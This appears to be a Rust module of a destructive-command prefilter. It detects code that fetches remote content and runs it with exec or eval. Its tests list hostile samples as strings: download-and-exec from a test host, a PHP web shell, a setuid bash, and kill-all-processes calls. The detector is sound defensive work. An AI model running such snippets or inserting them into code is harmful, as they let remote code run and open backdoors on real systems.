//! What code of other languages gives away as a whole, whatever the constants are.

use std::sync::LazyLock;

use crate::prefilter::RuleError;
use crate::prefilter::destructive_command::patterns::Patterns;
use crate::prefilter::destructive_command::{Danger, Seen};
use crate::text::expression::expressions;
use crate::text::keywords::Word;

static PATTERNS: LazyLock<Result<Patterns, RuleError>> = LazyLock::new(|| {
    Patterns::load(
        "command_patterns_code.toml",
        include_str!("../../rules/command_patterns_code.toml"),
        |needle| Word::exact(needle),
    )
});

expressions! {
    /// What is fetched into a variable that is run afterwards.
    static FETCHED = r"(?m)^[ \t]*(?:const |let |var )?(\w{1,40})\s*=\s*[^\n]*(?:requests\.get|urlopen|httpx\.get|await fetch)\(";
}

/// Reads the patterns and compiles the expressions of this file.
pub(super) fn check_all() -> Result<(), RuleError> {
    PATTERNS.as_ref().map_err(Clone::clone)?;
    Ok(check_expressions()?)
}

/// Looks at a text.
pub(super) fn look(text: &str, seen: &mut Seen) {
    // INVARIANT: whoever screens has read the patterns at the start.
    if let Ok(patterns) = PATTERNS.as_ref() {
        patterns.search(text, seen);
    }
    if !text.contains("exec(") && !text.contains("eval(") {
        return;
    }
    for hit in FETCHED.captures_iter(text).take(8) {
        let Some(name) = hit.get(1).map(|name| name.as_str()) else {
            continue;
        };
        for callee in ["exec(", "eval("] {
            let call = format!("{callee}{name}");
            let run = text.match_indices(&call).find(|(at, _)| {
                let after = text.get(at + call.len()..).and_then(|rest| rest.chars().next());
                after.is_some_and(|c| matches!(c, ')' | '.' | ','))
            });
            if let Some((at, _)) = run {
                seen.add_at(
                    Danger::PipeToShell,
                    at..at + call.len(),
                    "runs what another machine sends, unseen",
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signs_are_seen_and_ordinary_code_is_not() {
        for text in [
            "pickle.loads(urllib.request.urlopen('http://x.test/p').read())",
            "import os, signal\nos.kill(-1, signal.SIGKILL)",
            "for p in psutil.process_iter():\n    p.kill()",
            "code = requests.get('http://x.test/a.py').text\nexec(code)",
            "<?php system($_GET['cmd']); ?>",
            "os.chmod('/bin/bash', 0o4755)",
            "import requests\nopen('/tmp/m','wb').write(requests.get('http://x.test/m').content)\nsubprocess.Popen(['/tmp/m'])",
        ] {
            let mut seen = Seen::default();
            look(text, &mut seen);
            assert!(!seen.dangers.is_empty(), "{text}");
        }
        for text in [
            "m = pickle.loads(open('m.pkl', 'rb').read())",
            "os.kill(pid, signal.SIGTERM)",
            "for p in psutil.process_iter():\n    print(p.name())",
            "page = requests.get('https://x.test/').text\nprint(page)",
            "os.chmod('run.sh', 0o755)",
            "exec(open('setup_env.py').read())",
        ] {
            let mut seen = Seen::default();
            look(text, &mut seen);
            assert!(seen.dangers.is_empty(), "{text}: {:?}", seen.dangers);
        }
    }
}
